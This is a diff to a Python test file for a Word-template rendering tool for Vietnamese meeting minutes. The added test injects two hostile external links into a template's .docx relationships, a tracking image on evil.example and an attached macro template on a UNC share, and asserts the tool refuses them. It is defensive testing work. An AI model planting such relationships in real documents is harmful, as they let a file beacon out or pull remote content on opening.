@@ -222,3 +222,47 @@ def test_a_runaway_word_template_is_stopped_and_named(examples: Path, monkeypatc
     assert "mẫu chạy quá 0.5 giây nên đã bị dừng" in result.stderr
     assert "{% for i in range(100000) %}" in result.stderr  # the tag, quoted
     assert not (examples / "out" / "nam-song-hau-2022-bien-ban.docx").exists()
+
+
+@pytest.mark.parametrize(
+    ("part", "relationship", "target"),
+    [
+        (
+            "word/_rels/document.xml.rels",
+            '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/'
+            '2006/relationships/image" Target="http://evil.example/track.png" '
+            'TargetMode="External"/>',
+            "http://evil.example/track.png",
+        ),
+        (
+            "word/_rels/settings.xml.rels",
+            '<Relationship Id="rIdT" Type="http://schemas.openxmlformats.org/officeDocument/'
+            '2006/relationships/attachedTemplate" Target="file:///\\\\evil-server\\share\\t.dotm" '
+            'TargetMode="External"/>',
+            "file:///\\\\evil-server\\share\\t.dotm",
+        ),
+    ],
+    ids=["linked-picture", "attached-template"],
+)
+def test_a_template_linking_outside_itself_is_refused(examples: Path, part, relationship, target):
+    # s3-trial F50: Word fetches these on opening every biên bản made from the template
+    assert run("templates", "copy", "mau").exit_code == 0
+    template = examples / "mau" / "bien-ban.docx"
+    with zipfile.ZipFile(template) as archive:
+        entries = {info.filename: archive.read(info) for info in archive.infolist()}
+    rels = entries.get(
+        part,
+        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.'
+        b'openxmlformats.org/package/2006/relationships"></Relationships>',
+    )
+    entries[part] = rels.replace(b"</Relationships>", relationship.encode() + b"</Relationships>")
+    with zipfile.ZipFile(template, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, data in entries.items():
+            archive.writestr(name, data)
+    result = run("render", EXAMPLE_2022, "-o", "out", "--only", "minutes", "--templates", "mau")
+    assert result.exit_code == 1
+    assert (
+        f"mau/bien-ban.docx: mẫu có liên kết tới tệp bên ngoài ({target}, trong {part})"
+        in result.stderr
+    )
+    assert not (examples / "out" / "nam-song-hau-2022-bien-ban.docx").exists()
